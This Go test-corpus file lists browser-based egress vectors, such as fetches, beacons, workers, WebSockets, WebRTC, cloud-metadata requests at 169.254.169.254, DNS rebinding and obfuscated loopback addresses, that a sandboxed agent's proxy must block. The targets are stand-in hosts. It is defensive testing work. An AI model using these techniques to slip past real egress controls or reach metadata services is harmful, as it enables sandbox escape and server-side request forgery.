package corpus

import (
	"net/netip"
	"slices"
	"strings"
)

// Vector is one way in which a page, an agent or a program in the box could try
// to reach what the scope doesn't allow. Its target carries the vector's name,
// so that whoever sees the request knows which vector it was.
type Vector struct {
	Name  string // unique; a DNS label
	Group string

	// Exactly one of these says what happens.
	Script string // runs in an in-scope page, inside an async function
	Head   string // HTML put into an in-scope page
	Goto   string // an address that the agent types
	Raw    func(proxy dialer, v Vector) error

	Plain   bool              // the page is served over http, not https
	Click   string            // an element of the page that the agent clicks
	Header  map[string]string // response headers of the page
	Leave   bool              // the agent leaves the page afterwards
	Control Control           // where the vector has to reach its sink first

	index int // makes the vector's own address
}

// Control says which control run must see the vector reach its sink.
type Control string

const (
	// Scoped: the same box and proxy, with a scope that allows the target.
	Scoped Control = "scope widened"
	// Open: the same engine without box and proxy, in a network namespace of the
	// corpus' own. It is for what no proxy can carry: datagrams, name look-ups.
	Open Control = "box removed"
)

// The scripts see OUT (https), HTTP, WSS and WS, the vector's own out-of-scope
// origins; HIT, the path that names the vector; ADDR, an address of its own;
// echo(type, body), an in-scope URL that answers exactly that; and
// redir(url, status), an in-scope URL that redirects there.

// Vectors is the corpus of requests that a scope of hosts must stop.
var Vectors = number(0, fetches, elements, frames, forms, workers, sockets, tabs, addresses, typed, datagrams, rawOnes)

// number joins groups of vectors and gives each its index.
func number(first int, groups ...[]Vector) []Vector {
	out := slices.Concat(groups...)
	for i := range out {
		out[i].index = first + i
		if out[i].Control == "" {
			out[i].Control = Scoped
		}
	}
	return out
}

// addr is an address that only this vector uses: 20.1.x.y.
func (v Vector) addr() netip.Addr {
	return netip.AddrFrom4([4]byte{20, 1, byte(v.index / 250), byte(v.index%250 + 1)})
}

// hit is the path that names the vector; on the in-scope host of the path corpus
// it lies under /closed.
func (v Vector) hit() string {
	if v.Group == "path" {
		return "/closed/hit/" + v.Name
	}
	return "/hit/" + v.Name
}

// fill puts the vector's own names into a text.
func (v Vector) fill(s string) string {
	if !strings.Contains(s, "{{") {
		return s
	}
	host := v.Name + ".out.test"
	return strings.NewReplacer(
		"{{NAME}}", v.Name, "{{OUT}}", "https://"+host, "{{HTTP}}", "http://"+host, "{{WSS}}", "wss://"+host,
		"{{WS}}", "ws://"+host, "{{HIT}}", v.hit(), "{{ADDR}}", v.addr().String(),
	).Replace(s)
}

const addHead = `const add = (tag, attrs) => { const e = document.createElement(tag); for (const k in attrs) e.setAttribute(k, attrs[k]); document.body.append(e); return e };`

var fetches = []Vector{
	{Name: "fetch", Group: "fetch", Script: `fetch(OUT + HIT)`},
	{Name: "fetch-no-cors", Group: "fetch", Script: `fetch(OUT + HIT, {mode: "no-cors"})`},
	{Name: "fetch-post", Group: "fetch", Script: `fetch(OUT + HIT, {method: "POST", mode: "no-cors", body: "x"})`},
	{Name: "fetch-preflight", Group: "fetch", Script: `fetch(OUT + HIT, {method: "PUT", headers: {"x-a": "b"}})`},
	{Name: "fetch-keepalive", Group: "fetch", Script: `fetch(OUT + HIT, {method: "POST", mode: "no-cors", keepalive: true, body: "x"})`},
	{Name: "fetch-redirect", Group: "fetch", Script: `fetch(redir(OUT + HIT, 302), {mode: "no-cors"})`},
	{Name: "fetch-redirect-307", Group: "fetch", Script: `fetch(redir(OUT + HIT, 307), {method: "POST", mode: "no-cors", body: "x"})`},
	{Name: "fetch-two-redirects", Group: "fetch", Script: `fetch(redir(redir(OUT + HIT, 301), 302), {mode: "no-cors"})`},
	{Name: "fetch-plain", Group: "fetch", Plain: true, Script: `fetch(HTTP + HIT, {mode: "no-cors"})`},
	{Name: "fetch-plain-redirect", Group: "fetch", Plain: true, Script: `fetch(redir(HTTP + HIT, 302), {mode: "no-cors"})`},
	{Name: "fetch-other-port", Group: "fetch", Script: `fetch("https://in.test:8443" + HIT, {mode: "no-cors"})`},
	{Name: "xhr", Group: "fetch", Script: `const x = new XMLHttpRequest(); x.open("GET", OUT + HIT); x.send()`},
	{Name: "xhr-sync", Group: "fetch", Script: `const x = new XMLHttpRequest(); x.open("GET", OUT + HIT, false); try { x.send() } catch {}`},
	{Name: "eventsource", Group: "fetch", Script: `new EventSource(OUT + HIT)`},
	{Name: "beacon", Group: "fetch", Script: `navigator.sendBeacon(OUT + HIT, "x")`},
	{Name: "fetch-later", Group: "fetch", Script: `fetchLater(OUT + HIT, {activateAfter: 0})`},
	{Name: "unload-beacon", Group: "fetch", Leave: true, Script: `addEventListener("pagehide", () => navigator.sendBeacon(OUT + HIT, "x"))`},
	{Name: "unload-keepalive", Group: "fetch", Leave: true, Script: `addEventListener("pagehide", () => fetch(OUT + HIT, {method: "POST", mode: "no-cors", keepalive: true, body: "x"}))`},
	{Name: "visibility-beacon", Group: "fetch", Leave: true, Script: `addEventListener("visibilitychange", () => navigator.sendBeacon(OUT + HIT, "x"))`},
}

var elements = []Vector{
	{Name: "img", Group: "element", Script: `new Image().src = OUT + HIT`},
	{Name: "img-srcset", Group: "element", Script: `const i = new Image(); i.srcset = OUT + HIT + " 1x"; document.body.append(i)`},
	{Name: "img-redirect", Group: "element", Script: `new Image().src = redir(OUT + HIT, 302)`},
	{Name: "picture", Group: "element", Script: `document.body.insertAdjacentHTML("beforeend", "<picture><source srcset='" + OUT + HIT + "'><img></picture>")`},
	{Name: "input-image", Group: "element", Script: addHead + `add("input", {type: "image", src: OUT + HIT})`},
	{Name: "svg-image", Group: "element", Script: `document.body.insertAdjacentHTML("beforeend", "<svg><image href='" + OUT + HIT + "'/></svg>")`},
	{Name: "svg-fe-image", Group: "element", Script: `document.body.insertAdjacentHTML("beforeend", "<svg width=9 height=9><filter id=f><feImage href='" + OUT + HIT + "'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>")`},
	{Name: "body-background", Group: "element", Script: `document.body.setAttribute("background", OUT + HIT)`},
	{Name: "video", Group: "element", Script: addHead + `add("video", {src: OUT + HIT, preload: "auto"})`},
	{Name: "video-poster", Group: "element", Script: addHead + `add("video", {poster: OUT + HIT})`},
	{Name: "audio", Group: "element", Script: addHead + `add("audio", {src: OUT + HIT, preload: "auto"})`},
	{Name: "track", Group: "element", Script: addHead + `const v = add("video", {crossorigin: "anonymous"}); const t = document.createElement("track"); t.default = true; t.src = OUT + HIT; v.append(t); v.src = echo("video/mp4", "x"); t.track.mode = "showing"`},
	{Name: "object", Group: "element", Script: addHead + `add("object", {data: OUT + HIT})`},
	{Name: "embed", Group: "element", Script: addHead + `add("embed", {src: OUT + HIT})`},
	{Name: "script", Group: "element", Script: addHead + `add("script", {src: OUT + HIT})`},
	{Name: "script-module", Group: "element", Script: addHead + `add("script", {type: "module", src: OUT + HIT})`},
	{Name: "dynamic-import", Group: "element", Script: `import(OUT + HIT)`},
	{Name: "import-in-module", Group: "element", Script: `import(echo("text/javascript", "import '" + OUT + HIT + "'"))`},
	{Name: "import-json", Group: "element", Script: `import(OUT + HIT, {with: {type: "json"}})`},
	{Name: "modulepreload", Group: "element", Script: addHead + `add("link", {rel: "modulepreload", href: OUT + HIT})`},
	{Name: "preload", Group: "element", Script: addHead + `add("link", {rel: "preload", as: "image", href: OUT + HIT})`},
	{Name: "prefetch", Group: "element", Script: addHead + `add("link", {rel: "prefetch", href: OUT + HIT})`},
	{Name: "preload-header", Group: "element", Head: `<p>preload by header</p>`, Header: map[string]string{"Link": `<{{OUT}}{{HIT}}>; rel=preload; as=image`}},
	{Name: "manifest-icon", Group: "element", Script: addHead + `add("link", {rel: "stylesheet", href: OUT + HIT})`},
	{Name: "css-import", Group: "element", Script: `const s = document.createElement("style"); s.textContent = "@import url(" + OUT + HIT + ")"; document.head.append(s)`},
	{Name: "css-background", Group: "element", Script: `document.body.style.background = "url(" + OUT + HIT + ")"`},
	{Name: "css-content", Group: "element", Script: `const s = document.createElement("style"); s.textContent = "body::before{content:url(" + OUT + HIT + ")}"; document.head.append(s)`},
	{Name: "css-list-style", Group: "element", Script: `document.body.insertAdjacentHTML("beforeend", "<ul style='list-style-image:url(" + OUT + HIT + ")'><li>x</li></ul>")`},
	{Name: "css-mask", Group: "element", Script: `document.body.insertAdjacentHTML("beforeend", "<div style='width:9px;height:9px;background:red;mask-image:url(" + OUT + HIT + ")'></div>")`},
	{Name: "css-border-image", Group: "element", Script: `document.body.insertAdjacentHTML("beforeend", "<div style='width:9px;height:9px;border:3px solid;border-image:url(" + OUT + HIT + ") 1'></div>")`},
	{Name: "css-font", Group: "element", Script: `new FontFace("f", "url(" + OUT + HIT + ")").load().catch(() => {})`},
	{Name: "css-font-face", Group: "element", Script: `const s = document.createElement("style"); s.textContent = "@font-face{font-family:q;src:url(" + OUT + HIT + ")} body{font-family:q}"; document.head.append(s); document.body.append("text")`},
	{Name: "css-image-set", Group: "element", Script: `document.body.style.backgroundImage = "image-set(url(" + OUT + HIT + ") 1x)"`},
	{Name: "audio-worklet", Group: "element", Script: `new AudioContext().audioWorklet.addModule(OUT + HIT).catch(() => {})`},
	{Name: "paint-worklet", Group: "element", Script: `CSS.paintWorklet.addModule(OUT + HIT).catch(() => {})`},
	{Name: "csp-report", Group: "element", Header: map[string]string{"Content-Security-Policy-Report-Only": "img-src 'none'; report-uri {{OUT}}{{HIT}}"}, Script: `new Image().src = "/missing.png"`},
}

var frames = []Vector{
	{Name: "iframe", Group: "frame", Script: addHead + `add("iframe", {src: OUT + HIT})`},
	{Name: "iframe-redirect", Group: "frame", Script: addHead + `add("iframe", {src: redir(OUT + HIT, 302)})`},
	{Name: "iframe-srcdoc", Group: "frame", Script: addHead + `add("iframe", {srcdoc: "<img src='" + OUT + HIT + "'>"})`},
	{Name: "iframe-data", Group: "frame", Script: addHead + `add("iframe", {src: "data:text/html,<img src='" + OUT + HIT + "'>"})`},
	{Name: "iframe-blob", Group: "frame", Script: addHead + `add("iframe", {src: URL.createObjectURL(new Blob(["<img src='" + OUT + HIT + "'>"], {type: "text/html"}))})`},
	{Name: "iframe-sandbox", Group: "frame", Script: addHead + `add("iframe", {sandbox: "allow-scripts", srcdoc: "<script>fetch('" + OUT + HIT + "',{mode:'no-cors'})<\/script>"})`},
	{Name: "iframe-javascript", Group: "frame", Script: addHead + `add("iframe", {src: "javascript:fetch('" + OUT + HIT + "',{mode:'no-cors'})"})`},
	{Name: "iframe-meta-refresh", Group: "frame", Script: addHead + `add("iframe", {src: echo("text/html", "<meta http-equiv=refresh content='0;url=" + OUT + HIT + "'>")})`},
	{Name: "iframe-location", Group: "frame", Script: addHead + `add("iframe", {src: echo("text/html", "<script>location='" + OUT + HIT + "'<\/script>")})`},
	{Name: "frameset", Group: "frame", Script: addHead + `add("iframe", {src: echo("text/html", "<frameset><frame src='" + OUT + HIT + "'></frameset>")})`},
	{Name: "meta-refresh", Group: "frame", Head: `<meta http-equiv=refresh content="0;url={{OUT}}{{HIT}}">`},
	{Name: "refresh-header", Group: "frame", Head: `<p>refresh by header</p>`, Header: map[string]string{"Refresh": "0;url={{OUT}}{{HIT}}"}},
	{Name: "location-href", Group: "frame", Script: `location.href = OUT + HIT`},
	{Name: "location-replace", Group: "frame", Script: `location.replace(OUT + HIT)`},
	{Name: "navigation-api", Group: "frame", Script: `navigation.navigate(OUT + HIT)`},
	{Name: "location-redirect", Group: "frame", Script: `location.href = redir(OUT + HIT, 302)`},
}

var forms = []Vector{
	{Name: "form-get", Group: "form", Script: addHead + `add("form", {action: OUT + HIT}).submit()`},
	{Name: "form-post", Group: "form", Script: addHead + `add("form", {action: OUT + HIT, method: "post"}).submit()`},
	{Name: "form-redirect-307", Group: "form", Script: addHead + `add("form", {action: redir(OUT + HIT, 307), method: "post"}).submit()`},
	{Name: "form-frame", Group: "form", Script: addHead + `add("iframe", {name: "fr"}); add("form", {action: OUT + HIT, method: "post", target: "fr"}).submit()`},
	{Name: "form-new-tab", Group: "form", Click: "button", Head: `<body><form action="{{OUT}}{{HIT}}" method=post target=_blank><button>go</button></form>`},
	{Name: "anchor-click", Group: "form", Click: "a", Head: `<body><a href="{{OUT}}{{HIT}}">go</a>`},
	{Name: "anchor-ping", Group: "form", Click: "a", Head: `<body><a href="#x" ping="{{OUT}}{{HIT}}">go</a>`},
	{Name: "anchor-download", Group: "form", Click: "a", Head: `<body><a href="{{OUT}}{{HIT}}" download>go</a>`},
	{Name: "anchor-blank", Group: "form", Click: "a", Head: `<body><a href="{{OUT}}{{HIT}}" target=_blank>go</a>`},
	{Name: "anchor-noreferrer", Group: "form", Click: "a", Head: `<body><a href="{{OUT}}{{HIT}}" target=_blank rel="noopener noreferrer">go</a>`},
	{Name: "download-redirect", Group: "form", Click: "a", Head: `<body><a href="/redir?status=302&amp;to={{OUT}}{{HIT}}" download>go</a>`},
	{Name: "svg-anchor", Group: "form", Click: "rect", Head: `<body><svg width=90 height=30><a href="{{OUT}}{{HIT}}"><rect width=90 height=30 /></a></svg>`},
}

const inWorker = "`fetch('${OUT + HIT}', {mode: 'no-cors'})`"

var workers = []Vector{
	{Name: "worker-fetch", Group: "worker", Script: `new Worker(echo("text/javascript", ` + inWorker + `))`},
	{Name: "worker-blob", Group: "worker", Script: `new Worker(URL.createObjectURL(new Blob([` + inWorker + `])))`},
	{Name: "worker-nested", Group: "worker", Script: `new Worker(echo("text/javascript", "new Worker('" + echo("text/javascript", ` + inWorker + `) + "')"))`},
	{Name: "worker-import-scripts", Group: "worker", Script: "new Worker(echo('text/javascript', `importScripts('${OUT + HIT}')`))"},
	{Name: "worker-import-redirect", Group: "worker", Script: "new Worker(echo('text/javascript', `importScripts('${redir(OUT + HIT, 302)}')`))"},
	{Name: "worker-xhr", Group: "worker", Script: "new Worker(echo('text/javascript', `const x = new XMLHttpRequest(); x.open('GET', '${OUT + HIT}'); x.send()`))"},
	{Name: "worker-module-import", Group: "worker", Script: "new Worker(echo('text/javascript', `import '${OUT + HIT}'`), {type: 'module'})"},
	{Name: "worker-eventsource", Group: "worker", Script: "new Worker(echo('text/javascript', `new EventSource('${OUT + HIT}')`))"},
	{Name: "shared-worker", Group: "worker", Script: `new SharedWorker(echo("text/javascript", ` + inWorker + `))`},
	{Name: "shared-worker-import", Group: "worker", Script: "new SharedWorker(echo('text/javascript', `importScripts('${OUT + HIT}')`))"},
	{Name: "sw-install", Group: "worker", Script: "navigator.serviceWorker.register(echo('text/javascript', `oninstall = e => e.waitUntil(fetch('${OUT + HIT}', {mode: 'no-cors'}).catch(() => {}))`), {scope: '/sw-install/'})"},
	{Name: "sw-import", Group: "worker", Script: "navigator.serviceWorker.register(echo('text/javascript', `importScripts('${OUT + HIT}')`), {scope: '/sw-import/'}).catch(() => {})"},
	{Name: "sw-redirect", Group: "worker", Script: "navigator.serviceWorker.register(echo('text/javascript', `oninstall = e => e.waitUntil(fetch('${redir(OUT + HIT, 302)}', {mode: 'no-cors'}).catch(() => {}))`), {scope: '/sw-redirect/'})"},
	{Name: "sw-message", Group: "worker", Script: "const r = await navigator.serviceWorker.register(echo('text/javascript', `onmessage = e => e.waitUntil(fetch('${OUT + HIT}', {mode: 'no-cors'}).catch(() => {}))`), {scope: '/sw-message/'}); const w = r.installing || r.waiting || r.active; w.postMessage(1)"},
	{Name: "sw-respond", Group: "worker", Script: "const r = await navigator.serviceWorker.register(echo('text/javascript', `oninstall = () => skipWaiting(); onfetch = e => e.respondWith(fetch('${OUT + HIT}', {mode: 'no-cors'}))`), {scope: '/sw-respond/'}); const w = r.installing || r.active; await new Promise(go => { if (w.state == 'activated') go(); w.onstatechange = () => w.state == 'activated' && go() }); const f = document.createElement('iframe'); f.src = '/sw-respond/x'; document.body.append(f)"},
}

var sockets = []Vector{
	{Name: "ws-page", Group: "socket", Script: `new WebSocket(WSS + HIT)`},
	{Name: "ws-plain", Group: "socket", Plain: true, Script: `new WebSocket(WS + HIT)`},
	{Name: "ws-frame", Group: "socket", Script: addHead + `add("iframe", {srcdoc: "<script>new WebSocket('" + WSS + HIT + "')<\/script>"})`},
	{Name: "ws-worker", Group: "socket", Script: "new Worker(echo('text/javascript', `new WebSocket('${WSS + HIT}')`))"},
	{Name: "ws-shared-worker", Group: "socket", Script: "new SharedWorker(echo('text/javascript', `new WebSocket('${WSS + HIT}')`))"},
	{Name: "ws-service-worker", Group: "socket", Script: "navigator.serviceWorker.register(echo('text/javascript', `new WebSocket('${WSS + HIT}')`), {scope: '/ws-sw/'})"},
	{Name: "ws-stream", Group: "socket", Script: `new WebSocketStream(WSS + HIT)`},
	{Name: "ws-address", Group: "socket", Plain: true, Script: `new WebSocket("ws://" + ADDR + HIT)`},
}

var tabs = []Vector{
	{Name: "window-open", Group: "tab", Click: "button", Head: `<body><button onclick="window.open('{{OUT}}{{HIT}}')">go</button>`},
	{Name: "window-open-noopener", Group: "tab", Click: "button", Head: `<body><button onclick="window.open('{{OUT}}{{HIT}}','_blank','noopener')">go</button>`},
	{Name: "window-open-sized", Group: "tab", Click: "button", Head: `<body><button onclick="window.open('{{OUT}}{{HIT}}','w','width=200,height=200')">go</button>`},
	{Name: "window-open-write", Group: "tab", Click: "button", Head: `<body><button onclick="const w=window.open('about:blank');w.document.write('<img src={{OUT}}{{HIT}}>')">go</button>`},
	{Name: "window-open-script", Group: "tab", Click: "button", Head: `<body><button onclick="const w=window.open('about:blank');w.fetch('{{OUT}}{{HIT}}',{mode:'no-cors'})">go</button>`},
	{Name: "window-open-later", Group: "tab", Click: "button", Head: `<body><button onclick="const w=window.open('about:blank');setTimeout(()=>w.location='{{OUT}}{{HIT}}',20)">go</button>`},
	{Name: "window-open-blob", Group: "tab", Click: "button", Head: `<body><button onclick="window.open(window.URL.createObjectURL(new Blob(['<img src={{OUT}}{{HIT}}>'],{type:'text/html'})))">go</button>`},
	{Name: "window-open-redirect", Group: "tab", Click: "button", Head: `<body><button onclick="window.open('/redir?status=302&amp;to={{OUT}}{{HIT}}')">go</button>`},
	{Name: "window-open-ws", Group: "tab", Click: "button", Head: `<body><button onclick="const w=window.open('about:blank');w.eval('new WebSocket(\'{{WSS}}{{HIT}}\')')">go</button>`},
}

var addresses = []Vector{
	{Name: "addr-v4", Group: "address", Plain: true, Script: `new Image().src = "http://" + ADDR + HIT`},
	{Name: "addr-v4-tls", Group: "address", Script: `fetch("https://" + ADDR + HIT, {mode: "no-cors"})`},
	{Name: "addr-decimal", Group: "address", Plain: true, Script: `const n = ADDR.split(".").reduce((a, b) => a * 256 + +b, 0); new Image().src = "http://" + n + HIT`},
	{Name: "addr-hex", Group: "address", Plain: true, Script: `const n = ADDR.split(".").reduce((a, b) => a * 256 + +b, 0); new Image().src = "http://0x" + n.toString(16) + HIT`},
	{Name: "addr-v6", Group: "address", Plain: true, Script: `new Image().src = "http://[2600:9000::66]" + HIT`},
	{Name: "addr-mapped", Group: "address", Plain: true, Script: `new Image().src = "http://[::ffff:" + ADDR + "]" + HIT`},
	{Name: "addr-metadata", Group: "address", Plain: true, Script: `new Image().src = "http://169.254.169.254" + HIT`},
	{Name: "addr-metadata-fetch", Group: "address", Plain: true, Script: `fetch("http://169.254.169.254/latest/meta-data" + HIT, {mode: "no-cors"})`},
	{Name: "name-private", Group: "address", Plain: true, Script: `new Image().src = "http://special.in.test" + HIT`},
	{Name: "name-metadata", Group: "address", Plain: true, Script: `new Image().src = "http://meta.in.test" + HIT`},
	{Name: "name-mixed", Group: "address", Plain: true, Script: `new Image().src = "http://mixed.in.test" + HIT`},
	{Name: "name-rebinding", Group: "address", Plain: true, Script: `for (let i = 0; i < 6; i++) await fetch("http://rebind.in.test" + HIT + "?" + i, {mode: "no-cors", cache: "no-store"}).catch(() => {})`},
	{Name: "own-listener", Group: "address", Plain: true, Script: `new Image().src = "http://in.test:7080" + HIT`},
	{Name: "proxy-itself", Group: "address", Control: Open, Goto: "http://127.0.0.1:3128{{HIT}}"},
}

var typed = []Vector{
	{Name: "goto-out", Group: "typed", Goto: "{{OUT}}{{HIT}}"},
	{Name: "goto-out-plain", Group: "typed", Goto: "{{HTTP}}{{HIT}}"},
	{Name: "goto-redirect", Group: "typed", Goto: "https://in.test/redir?status=302&to={{OUT}}{{HIT}}"},
	{Name: "goto-redirect-plain", Group: "typed", Goto: "http://in.test/redir?status=301&to={{HTTP}}{{HIT}}"},
	{Name: "goto-v4", Group: "typed", Goto: "http://{{ADDR}}{{HIT}}"},
	{Name: "goto-v6", Group: "typed", Goto: "http://[2600:9000::66]{{HIT}}"},
	{Name: "goto-port", Group: "typed", Goto: "https://in.test:8443{{HIT}}"},
	{Name: "goto-metadata", Group: "typed", Goto: "http://169.254.169.254{{HIT}}"},
	{Name: "goto-loopback", Group: "typed", Goto: "http://127.0.0.1:8080{{HIT}}"},
	{Name: "goto-loopback-short", Group: "typed", Goto: "http://127.1:8080{{HIT}}"},
	{Name: "goto-loopback-decimal", Group: "typed", Goto: "http://2130706433:8080{{HIT}}"},
	{Name: "goto-loopback-v6", Group: "typed", Goto: "http://[::1]:8080{{HIT}}"},
	{Name: "goto-localhost", Group: "typed", Goto: "http://localhost:8080{{HIT}}"},
	{Name: "goto-trailing-dot", Group: "typed", Goto: "http://goto-trailing-dot.out.test.{{HIT}}"},
}

// datagrams are what no HTTP proxy carries. The box stops them by having no
// route at all; the control without a box shows that the engine would send them.
var datagrams = []Vector{
	{Name: "webrtc-stun", Group: "datagram", Control: Open, Script: `const p = new RTCPeerConnection({iceServers: [{urls: "stun:" + ADDR + ":3478"}]}); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); self.keep = p`},
	{Name: "webrtc-turn-udp", Group: "datagram", Control: Open, Script: `const p = new RTCPeerConnection({iceServers: [{urls: "turn:" + ADDR + ":3478?transport=udp", username: "u", credential: "c"}]}); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); self.keep = p`},
	{Name: "webrtc-turn-tcp", Group: "datagram", Control: Open, Script: `const p = new RTCPeerConnection({iceServers: [{urls: "turn:" + ADDR + ":3478?transport=tcp", username: "u", credential: "c"}]}); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); self.keep = p`},
	{Name: "webrtc-turns", Group: "datagram", Control: Open, Script: `const p = new RTCPeerConnection({iceServers: [{urls: "turns:" + ADDR + ":5349?transport=tcp", username: "u", credential: "c"}]}); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); self.keep = p`},
	{Name: "webrtc-stun-name", Group: "datagram", Control: Open, Script: `const p = new RTCPeerConnection({iceServers: [{urls: "stun:" + NAME + ".out.test:3478"}]}); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); self.keep = p`},
	{Name: "webrtc-candidate", Group: "datagram", Control: Open, Script: `const a = new RTCPeerConnection(), b = new RTCPeerConnection(); a.createDataChannel("x"); await a.setLocalDescription(await a.createOffer()); await b.setRemoteDescription(a.localDescription); await b.setLocalDescription(await b.createAnswer()); await a.setRemoteDescription(b.localDescription); await a.addIceCandidate({candidate: "candidate:1 1 udp 2122260223 " + ADDR + " 5000 typ host", sdpMid: "0", sdpMLineIndex: 0}); self.keep = [a, b]`},
	{Name: "dns-lookup", Group: "datagram", Control: Open, Plain: true, Script: `new Image().src = HTTP + HIT`},
	{Name: "quic", Group: "datagram", Control: Open, Script: `fetch("https://quic.out.test" + HIT, {mode: "no-cors"}).catch(() => {})`},
	{Name: "webtransport", Group: "datagram", Control: Open, Script: `const w = new WebTransport("https://" + ADDR + ":4433" + HIT); w.ready.catch(() => {}); w.closed.catch(() => {})`},
	{Name: "direct-tcp", Group: "datagram", Control: Open, Plain: true, Script: `new Image().src = "http://" + ADDR + ":8080" + HIT`},
	{Name: "direct-loopback", Group: "datagram", Control: Open, Goto: "http://127.0.0.1:8080{{HIT}}"},
}
